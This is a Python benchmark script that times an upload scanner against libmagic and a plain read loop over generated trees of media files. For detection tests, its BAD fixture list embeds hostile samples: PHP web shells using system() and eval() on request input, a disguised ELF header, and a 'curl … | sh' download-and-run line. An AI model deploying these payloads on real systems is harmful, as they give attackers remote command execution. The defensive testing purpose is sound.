# Copyright (c) 2026, aiguard.hardening maintainers
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Measure how fast upload_scan checks a tree of uploads, against libmagic
(Debian's `file --mime-type`) and against a bare loop that only opens the same
files and reads the same header bytes.

A tree of mixed files (real header bytes of the formats AI apps take, a few
disguised executables, scripts and polyglots) is generated in a temporary
directory (removed at the end), in two layouts: Gradio-style hash
subdirectories, about one directory per file (the main figures), and flat
date directories of 1,000 files each, as Stable Diffusion WebUI stores its
outputs. Each round times every variant once, the order rotating from round
to round, after one untimed pass that warms the page cache; medians are
reported. See benchmarks/README.md.

Usage: .venv/bin/python benchmarks/upload_scan_bench.py [--files 20000] [--rounds 5] [--layouts gradio,flat]
       [--real-dir DIR]
"""

from __future__ import annotations

import argparse
import os
import platform
import random
import resource
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
import types
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]

# Real header bytes (the same as the unit tests' table), the extension they go
# by and their share of the tree.
HEADERS = [
    ("mp4", 0.14, "000000206674797069736f6d0000020069736f6d69736f32617663316d7034310000000866726565"),
    ("m4a", 0.04, "00000020667479704d344120000000004d3441206d70343269736f6d00000000"),
    ("mov", 0.03, "0000001466747970717420202005030071742020000000087769646500"),
    ("wav", 0.12, "52494646003f000057415645666d74201000000001000100401f0000803e0000020010006461746164"),
    ("mp3", 0.08, "4944330300000000201e54454e43000000140000004d6f766965736f756e64636c6970732e6e6574"),
    ("flac", 0.03, "664c6143000000221000100000000e001c3c0ac442f000000000d5c9f1e0b2e43a5f1b379da6b5f3"),
    ("ogg", 0.03, "4f676753000200000000000000004c8b3638000000006cb6d2a6011e01766f72626973"),
    ("webm", 0.04, "1a45dfa39f4286810142f7810142f2810442f381084282847765626d4287810242858102"),
    ("png", 0.18, "89504e470d0a1a0a0000000d494844520000004200000039080600000082b1fdea"),
    ("jpg", 0.20, "ffd8ffe000104a46494600010101012c012c0000ffe1005a4578696600004949"),
    ("gif", 0.02, "4749463839618808000570ff0021ff0b4e45545343415045322e30"),
    ("webp", 0.03, "52494646a801000057454250565038580a000000100000000f00000f0000"),
    ("bmp", 0.01, "424d8a040000000000008a0000007c00000010000000100000000100200003000000"),
    ("tif", 0.01, "49492a000804000000000000000000000000000000004e8dc0af4a86baed"),
]
# Bad files, 5 % of the tree in all.
BAD = [
    ("php.mp4", b"<?php system($_GET['cmd']); ?>\n"),
    ("mp4", bytes.fromhex("7f454c4602010100000000000000000003003e0001000000d023000000000000")),
    ("png", b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"),
    ("jpg", bytes.fromhex("ffd8ffe000104a4649460001") + b"\0" * 64 + b"<?php eval($_POST[1]); ?>"),
    ("wav", b"<html><body><script>alert(1)</script></body></html>\n"),
]


def import_uploadscan():
    """The scanner's names in one namespace: the package from the collection, or as installed on the hosts."""
    sys.path.insert(0, str(ROOT / ".cache" / "collections"))
    try:
        from ansible_collections.aiguard.hardening.plugins.module_utils.uploadscan import kinds, scan, verdict
    except ImportError:
        sys.path.insert(0, str(ROOT / "plugins" / "module_utils"))
        from uploadscan import kinds, scan, verdict  # the package, as on the hosts
    return types.SimpleNamespace(**vars(kinds), Policy=verdict.Policy, scan=scan.scan)


LAYOUTS = ("gradio", "flat")


def generate(dest, count, seed=6, layout="gradio"):
    """Write ``count`` files under ``dest``; return their paths and the set of the bad ones.

    The same files (same names, sizes and bytes) in either layout: ``gradio``,
    hash subdirectories with about one directory per file; ``flat``, date
    directories of 1,000 files each.
    """
    rng = random.Random(seed)
    pool = rng.randbytes(1 << 20)
    kinds = [(ext, bytes.fromhex(head)) for ext, _share, head in HEADERS]
    weights = [share for _ext, share, _head in HEADERS]
    paths = []
    bad = set()
    for index in range(count):
        hashed = dest / f"{rng.getrandbits(64):016x}"[:2] / f"{index // 4:08x}"
        directory = hashed if layout == "gradio" else dest / f"2026-01-{index // 1000 + 1:02d}"
        directory.mkdir(parents=True, exist_ok=True)
        is_bad = rng.random() < 0.05
        if is_bad:
            ext, head = rng.choice(BAD)
        else:
            ext, head = rng.choices(kinds, weights)[0]
        # Sizes from 1 KiB to 2 MiB, log-uniform; the first 16 KiB are data
        # (random bytes, like compressed media), the rest a sparse hole, so
        # the tree is quick to write and every reader sees the same bytes.
        size = max(len(head), int(2 ** rng.uniform(10, 21)))
        start = rng.randrange(0, len(pool) - 16384)
        body = head + pool[start : start + min(size, 16384) - len(head)]
        path = directory / f"upload-{index}.{ext}"
        with open(path, "wb") as handle:
            handle.write(body)
            if size > len(body):
                handle.truncate(size)
        paths.append(str(path))
        if is_bad:
            bad.add(str(path))
    return paths, bad


def walk(root):
    """Every regular file under ``root``, with os.scandir as the scanner walks."""
    out = []
    stack = [root]
    while stack:
        with os.scandir(stack.pop()) as entries:
            for entry in entries:
                if entry.is_dir(follow_symlinks=False):
                    stack.append(entry.path)
                elif entry.is_file(follow_symlinks=False):
                    out.append(entry.path)
    return out


def bare_read(paths, window):
    flags = os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK
    for path in paths:
        fd = os.open(path, flags)
        try:
            os.read(fd, window)
        finally:
            os.close(fd)


def libmagic(listing, window=None):
    argv = ["file", "--mime-type", "-b", "-f", listing]
    if window:
        argv[1:1] = ["-P", f"bytes={window}"]
    subprocess.run(argv, stdout=subprocess.DEVNULL, check=True)


def cpu_seconds():
    """User + system CPU time of this process and its finished children."""
    own = resource.getrusage(resource.RUSAGE_SELF)
    children = resource.getrusage(resource.RUSAGE_CHILDREN)
    return own.ru_utime + own.ru_stime + children.ru_utime + children.ru_stime


def cpu_model():
    try:
        with open("/proc/cpuinfo", encoding="utf-8") as handle:
            for line in handle:
                if line.startswith("model name"):
                    return line.split(":", 1)[1].strip()
    except OSError:
        pass
    return platform.processor() or "unknown CPU"


def time_variants(variants, rounds, label):
    """Median wall and CPU seconds of each variant over ``rounds`` rounds, in a rotating order."""
    for fn in variants.values():  # warm the page cache and the code
        fn()
    names = list(variants)
    wall = {name: [] for name in names}
    cpu = {name: [] for name in names}
    for rnd in range(rounds):
        order = names[rnd % len(names) :] + names[: rnd % len(names)]
        for name in order:
            c0, t0 = cpu_seconds(), time.perf_counter()
            variants[name]()
            wall[name].append(time.perf_counter() - t0)
            cpu[name].append(cpu_seconds() - c0)
        print(
            f"{label} round {rnd + 1}: " + ", ".join(f"{name.split(' (')[0]} {wall[name][-1]:.2f}s" for name in order),
            flush=True,
        )
    return (
        {name: statistics.median(t) for name, t in wall.items()},
        {name: statistics.median(t) for name, t in cpu.items()},
    )


def layout_run(us, work, layout, args, window, with_file):
    """Generate the tree in ``layout``, check the verdicts, time the variants; return the figures."""
    started = time.perf_counter()
    tree = work / layout
    paths, bad = generate(tree, args.files, layout=layout)
    listing = work / f"{layout}.txt"
    listing.write_text("\n".join(paths) + "\n", encoding="utf-8")
    directories = sum(1 for _root, _dirs, _files in os.walk(tree))
    print(
        f"{layout}: generated {len(paths)} files in {directories} directories in"
        f" {time.perf_counter() - started:.1f} s; window {window} bytes"
    )

    policy = us.Policy(window=window)
    counts, results = us.scan([str(tree)], policy, apply=False)
    flagged = {result["path"] for result in results if result["verdict"] != us.ALLOWED}
    print(
        f"{layout}: upload_scan verdicts: {counts['allowed']} allowed, {counts['flagged']} flagged "
        f"({', '.join(f'{v} {counts[v]}' for v in us.VERDICTS if counts[v] and v != us.ALLOWED)});"
        f" {len(bad)} bad files generated, {len(bad - flagged)} of them missed,"
        f" {len(flagged - bad)} good files flagged"
    )
    if bad != flagged:
        sys.exit(f"{layout}: the verdicts do not match the generated files; figures not taken")

    variants = {
        "upload_scan (walk + read + verdict)": lambda: us.scan([str(tree)], policy, apply=False),
        "bare loop (walk + open + read)": lambda: bare_read(walk(str(tree)), window),
        "bare loop (open + read, list given)": lambda: bare_read(paths, window),
    }
    if with_file:
        variants["file --mime-type (libmagic defaults)"] = lambda: libmagic(str(listing))
        variants[f"file --mime-type -P bytes={window}"] = lambda: libmagic(str(listing), window)
    if args.real_dir and with_file:
        real = args.real_dir
        variants["upload_scan on --real-dir"] = lambda: us.scan([real], us.Policy(window=window), apply=False)
    wall, cpu = time_variants(variants, args.rounds, layout)
    figures = {"files": len(paths), "directories": directories, "wall": wall, "cpu": cpu}
    shutil.rmtree(tree, ignore_errors=True)
    return figures


def print_table(layout, figures):
    n = figures["files"]
    rate = {name: n / t for name, t in figures["wall"].items()}
    cpu_rate = {name: n / t for name, t in figures["cpu"].items()}
    scan = next(iter(rate))
    print(f"\n{layout}: {n} files in {figures['directories']} directories")
    print("| variant | files/s (wall) | upload_scan / variant | files per CPU second | upload_scan / variant |")
    print("|---|---:|---:|---:|---:|")
    for name in rate:
        if name == "upload_scan on --real-dir":
            continue
        print(
            f"| {name} | {rate[name]:,.0f} | {rate[scan] / rate[name]:.2f} | {cpu_rate[name]:,.0f} |"
            f" {cpu_rate[scan] / cpu_rate[name]:.2f} |"
        )
    names = list(rate)
    for label, table in (("wall", rate), ("CPU", cpu_rate)):
        if "file --mime-type (libmagic defaults)" in table:
            print(
                f"{layout} {label}: faster than libmagic (defaults):"
                f" {table[scan] > table['file --mime-type (libmagic defaults)']}"
            )
        print(f"{layout} {label}: at least half the bare loop with walk: {table[scan] >= 0.5 * table[names[1]]}")
        print(
            f"{layout} {label}: at least half the bare loop over a given list: {table[scan] >= 0.5 * table[names[2]]}"
        )


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n", 1)[0])
    parser.add_argument("--files", type=int, default=20000, help="files in each generated tree (default 20000)")
    parser.add_argument("--rounds", type=int, default=5, help="rounds, each timing every variant (default 5)")
    parser.add_argument("--window", type=int, default=None, help="bytes read per file (default: upload_scan's)")
    parser.add_argument(
        "--layouts",
        default=",".join(LAYOUTS),
        help="tree layouts to time, the first with libmagic too (default gradio,flat)",
    )
    parser.add_argument("--real-dir", help="also time a directory of real uploads (read only)")
    parser.add_argument("--tmp", help="where to generate the trees (default: the system's temporary directory)")
    args = parser.parse_args()
    layouts = [layout for layout in args.layouts.split(",") if layout]
    unknown = sorted(set(layouts) - set(LAYOUTS))
    if unknown or not layouts:
        parser.error(f"--layouts: choose from {', '.join(LAYOUTS)}")

    us = import_uploadscan()
    window = args.window or us.WINDOW
    have_file = shutil.which("file") is not None
    if not have_file:
        print("libmagic: `file` is not installed (apt-get install file); its variants are skipped")
    if args.real_dir and not os.path.isdir(args.real_dir):
        print(f"--real-dir {args.real_dir} is absent: skipping the real-data variant")
        args.real_dir = None

    work = Path(tempfile.mkdtemp(prefix="aiguard-upload-bench-", dir=args.tmp))
    try:
        results = {}
        for index, layout in enumerate(layouts):
            results[layout] = layout_run(us, work, layout, args, window, have_file and index == 0)
    finally:
        shutil.rmtree(work, ignore_errors=True)
    load = os.getloadavg()
    print(
        f"\n{cpu_model()}, {os.cpu_count()} CPUs, Python {platform.python_version()}, window {window} bytes,"
        f" {args.rounds} rounds, medians; load average at the end {load[0]:.2f} {load[1]:.2f} {load[2]:.2f}"
    )
    for layout, figures in results.items():
        print_table(layout, figures)
    first = results[layouts[0]]
    if args.real_dir:
        count = us.scan([args.real_dir], us.Policy(window=window), apply=False)[0]["scanned"]
        print(f"\nreal data: {count} entries in {first['wall']['upload_scan on --real-dir']:.3f} s")


if __name__ == "__main__":
    main()
